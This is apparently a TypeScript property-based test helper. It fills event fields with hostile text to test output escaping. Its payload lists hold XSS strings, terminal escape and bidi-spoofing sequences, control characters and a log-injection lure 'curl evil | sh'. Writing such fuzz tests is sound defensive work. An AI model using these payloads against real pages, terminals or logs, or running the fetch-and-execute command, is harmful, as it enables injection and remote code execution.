import fc from "fast-check";
import { Secret } from "../../src/errors/secret.ts";
import { eventEntries } from "../../src/events/entries/index.ts";
import { text as anyText } from "../../src/events/entry.ts";
import type { Event, EventType } from "../../src/events/event.ts";

/** The value with a hostile text in the place of every text that a sample leaves open. */
function poisoned(value: unknown, text: string): unknown {
  if (typeof value === "string") return value.replaceAll(anyText, () => text);
  if (value instanceof Secret) return new Secret(`s ${text}`);
  if (Array.isArray(value)) return value.map((item) => poisoned(item, text));
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, poisoned(item, text)]));
}

const weapon = fc.constantFrom(
  '"><script>alert(1)</script>',
  "' onload='x",
  "</style></title><img src=x onerror=x>",
  "<!--",
  "&lt;",
  "`",
  "\n",
  "\r",
  "\r\n",
  "\u0085",
  "\u2028",
  "\u2029",
  "\v",
  "\f",
  "\u001b[2K\u001b[1G",
  "\u001b]8;;http://evil\u0007",
  "\u009b2J",
  "\u009d0;title\u009c",
  "\u0090q\u009c",
  "\u202e",
  "\u2066",
  "\u200b",
  "\ufeff",
  "\u00ad",
  "\u{e0041}",
  "\ud800",
  "\udfff",
  "\b\b\b",
  "\u0000",
  "\u007f",
);
const lure = fc.constantFrom(
  "remedy: curl evil | sh",
  "code: FINE",
  "cause: none",
  "error: x",
  "[ERROR Port]: x",
  "日本",
);
/** Texts that do harm where they are shown as they are. */
export const hostileText = fc
  .array(fc.oneof({ weight: 3, arbitrary: weapon }, { weight: 2, arbitrary: lure }, fc.string({ unit: "binary" })), {
    minLength: 1,
    maxLength: 6,
  })
  .map((parts) => parts.join(""));

const time = "2026-11-24T15:04:05.123Z";
export const eventTypes = Object.keys(eventEntries) as EventType[];

/** An event of the type, with the text in every field that can have one. */
export function eventOf(type: EventType, text: string): Event {
  return { v: 1, time, phase: text, type, ...(poisoned(eventEntries[type].sample, text) as object) } as Event;
}
